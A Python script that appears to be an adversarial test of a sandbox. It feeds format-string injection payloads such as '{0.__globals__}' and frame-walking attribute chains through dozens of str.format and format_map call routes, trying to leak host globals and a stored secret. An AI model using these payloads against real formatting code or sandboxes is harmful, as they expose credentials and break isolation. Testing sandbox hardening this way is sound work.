"""D1, D2, D3, D4, D5: str.format and format_map: direct, stored, mapped, unbound, of subclasses, by super, by lookup helpers."""

import functools, operator, string

loot = []
SECRETS = [
    "{0.__globals__}",
    "{0.__class__.__mro__[1].__subclasses__}",
    "{0.gi_frame.f_back.f_back.f_globals}",
    "{0.__init__.__globals__}",
    "{0.__self__}",
    "{0.__code__.co_consts}",
    "{0.__closure__[0].cell_contents}",
    "{0.__call__.__func__.__globals__}",
    "{0.__getattribute__.__self__}",
    "{0.f_back}",
    "{0.__traceback__.tb_frame.f_back.f_globals}",
    "{a.gi_frame}",
    "{0!r:{0.gi_frame}}",
    "{0:{0.__globals__}}",
    "{:{}}",
    "{0.__class__.__base__.__subclasses__}",
    "{0.__dict__}",
    "{0.__builtins__}",
]


class S(str):
    def super_format(self, *args, **keywords):
        return super().format(*args, **keywords)

    def super_map(self, mapping):
        return super(S, self).format_map(mapping)

    def __format__(self, spec):
        return str.__str__(self)


class Key(dict):
    def __missing__(self, name):
        loot.append(name)
        return value


try:
    raise ValueError
except ValueError as error:
    caught = error
METHODS = [
    lambda text: text.format(value, a=value),
    lambda text: str.format(text, value, a=value),
    lambda text: S(text).format(value, a=value),
    lambda text: S.format(S(text), value, a=value),
    lambda text: S(text).super_format(value, a=value),
    lambda text: S(text).super_map({"a": value, "0": value}),
    lambda text: super(S, S(text)).format(value, a=value),
    lambda text: getattr(text, "format")(value, a=value),
    lambda text: getattr(text, "for" + "mat")(value, a=value),
    lambda text: text.format_map({"a": value, "0": value}),
    lambda text: text.format_map(Key()),
    lambda text: str.format_map(text, Key()),
    lambda text: list(map(str.format, [text], [value]))[0],
    lambda text: list(map(text.format, [value]))[0],
    lambda text: functools.partial(text.format, value, a=value)(),
    lambda text: functools.reduce(str.format, [text, value]),
    lambda text: operator.methodcaller("format", value, a=value)(text),
    lambda text: operator.attrgetter("format")(text)(value, a=value),
    lambda text: str.__getattribute__(text, "format")(value, a=value),
    lambda text: object.__getattribute__(text, "format")(value, a=value),
    lambda text: vars(str)["format"](text, value, a=value),
    lambda text: str.__dict__["format"].__get__(text)(value, a=value),
    lambda text: type.__getattribute__(str, "format")(text, value, a=value),
    lambda text: sorted([text], key=lambda each: each.format(value, a=value)),
    lambda text: string.Formatter().format(text, value, a=value),
    lambda text: string.Formatter().vformat(text, (value,), {"a": value}),
    lambda text: string.Formatter().get_field(text.strip("{}"), (value,), {"a": value}),
    lambda text: "{0}".format(text.format(value, a=value)),
    lambda text: "{0.format}".format(text),
    lambda text: str.format(text, *[value] * 3, **{"a": value}),
    lambda text: f"{text.format(value, a=value)!s:>10}",
    lambda text: eval("t.format(v, a=v)", {"t": text, "v": value}),
    lambda text: text.__class__.format(text, value, a=value),
    lambda text: __import__("logging"),
]


def inside():
    for text in SECRETS:
        for method in METHODS:
            try:
                found = method(text)
            except BaseException as error:
                for name in ("obj", "name", "__context__", "args"):
                    try:
                        loot.append(getattr(error, name))
                    except BaseException:
                        pass
                continue
            loot.append(found)
            if type(found) is str and ("hunter2" in found or "ringfence.guest" in found):
                loot.append(type(__import__("sys"))("ALARM text of the host"))
    yield


for value in (print, get_blog_posts, inside, type(print), caught, HostError, [].append, len, S("x"), object()):
    next(inside())
value = inside()
next(value)
